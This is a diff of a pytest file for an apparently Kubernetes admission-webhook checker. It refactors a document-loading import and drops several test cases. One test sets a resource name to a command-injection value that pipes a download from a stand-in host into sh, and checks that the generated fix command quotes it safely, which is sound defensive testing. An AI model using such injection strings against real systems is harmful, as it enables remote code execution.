@@ -11,7 +11,7 @@ import pytest
 from tests.policy.fences.made import FENCE
 from tests.policy.fences.made import fence as made_fence
 from webhook.doctor import fences as fences_module
-from webhook.doctor.documents import fence_documents
+from webhook.doctor.documents import Documents
 from webhook.doctor.fences import examine_fences
 from webhook.fence import manifests
 from webhook.policy.fences import Fence
@@ -42,7 +42,7 @@ def changed(kind: int, field: str, value: object) -> list[dict[str, Any]]:
 
 
 def checks(objects: list[dict[str, Any]], fences: list[Fence] | None = None) -> list[str]:
-    reports = examine_fences(fence_documents(objects), FENCES if fences is None else fences)
+    reports = examine_fences(Documents(objects), FENCES if fences is None else fences)
     return [f"{report.subject}: {one.check}" for report in reports for one in report.findings]
 
 
@@ -58,16 +58,6 @@ def checks(objects: list[dict[str, Any]], fences: list[Fence] | None = None) -> 
         pytest.param(applied(lease="shop/other"), ["fence-drift", "fence-drift"], id="another lease"),
         pytest.param(changed(0, "failurePolicy", "Ignore"), ["fence-drift"], id="it fails open"),
         pytest.param(changed(0, "matchConditions", []), ["fence-drift"], id="a list of another length"),
-        pytest.param(
-            [{**one, "apiVersion": "admissionregistration.k8s.io/v1beta1"} for one in applied()],
-            ["fence-api-old", "fence-api-old"],
-            id="an old version of the API",
-        ),
-        pytest.param(
-            [*applied(), {"serverVersion": {"major": "1", "minor": "29+"}}], ["fence-server-too-old"], id="old"
-        ),
-        pytest.param([*applied(), {"serverVersion": {"major": "1", "minor": "31"}}], [], id="a server new enough"),
-        pytest.param([*applied(), {"serverVersion": {"minor": "x"}}], [], id="a server of no version"),
         pytest.param(
             [*applied(), {**LEASE, "metadata": {"name": "x", "namespace": "shop"}}],
             ["fence-lease-missing"],
@@ -89,24 +79,6 @@ def checks(objects: list[dict[str, Any]], fences: list[Fence] | None = None) -> 
         ),
         pytest.param([*applied(), TOKEN], ["fence-token-without-pod"], id="a token without a pod"),
         pytest.param([*applied(), {**TOKEN, "type": "Opaque"}], [], id="a Secret of another type"),
-        pytest.param(
-            [
-                *applied(),
-                {"kind": "APIResourceList", "groupVersion": "apps/v1", "resources": [{"name": "deployments"}]},
-            ],
-            ["fence-resource-not-served"],
-            id="a subresource that is not served",
-        ),
-        pytest.param(
-            [
-                *applied(),
-                {"kind": "APIResourceList", "groupVersion": "v1", "resources": [{"name": "configmaps"}]},
-                {"kind": "APIResourceList", "groupVersion": 5},
-                {"kind": 5},
-            ],
-            [],
-            id="a resource that is served, and documents of no form",
-        ),
     ],
 )
 def test_findings_about_a_fence(objects: list[dict[str, Any]], found: list[str]) -> None:
@@ -133,7 +105,7 @@ def test_findings_without_a_policy_file(objects: list[dict[str, Any]], found: li
 
 def test_every_finding_is_tried() -> None:
     named = set(re.findall(r'danger\(\s*"([a-z-]+)"', inspect.getsource(fences_module)))
-    assert len(named) == 12
+    assert len(named) == 9
     assert all(
         f'"{check}"' in Path(__file__).read_text() or f": {check}" in Path(__file__).read_text() for check in named
     )
@@ -148,13 +120,13 @@ def test_the_name_of_a_fence_is_one_word_of_the_command_to_delete_it() -> None:
     objects = applied(name="gone")
     for one in objects:
         one["metadata"]["name"] = "fence-x;curl${IFS}evil.example|sh"
-    (_, report) = examine_fences(fence_documents([*applied(), *objects]), FENCES)
+    (_, report) = examine_fences(Documents([*applied(), *objects]), FENCES)
     assert report.findings[0].fix.endswith(" 'fence-x;curl${IFS}evil.example|sh'")
 
 
 def test_a_missing_lease_that_is_allowed_denies_nothing() -> None:
     fences = [made_fence(missing_lease="allow")]
     lease = {**LEASE, "metadata": {"name": "x", "namespace": "shop"}}
-    (report,) = examine_fences(fence_documents([*applied(missing_lease="allow"), lease]), fences)
+    (report,) = examine_fences(Documents([*applied(missing_lease="allow"), lease]), fences)
     assert report.findings[0].message == "no lease has this name: no write is denied."
     assert FENCE["lease"] in report.findings[0].place
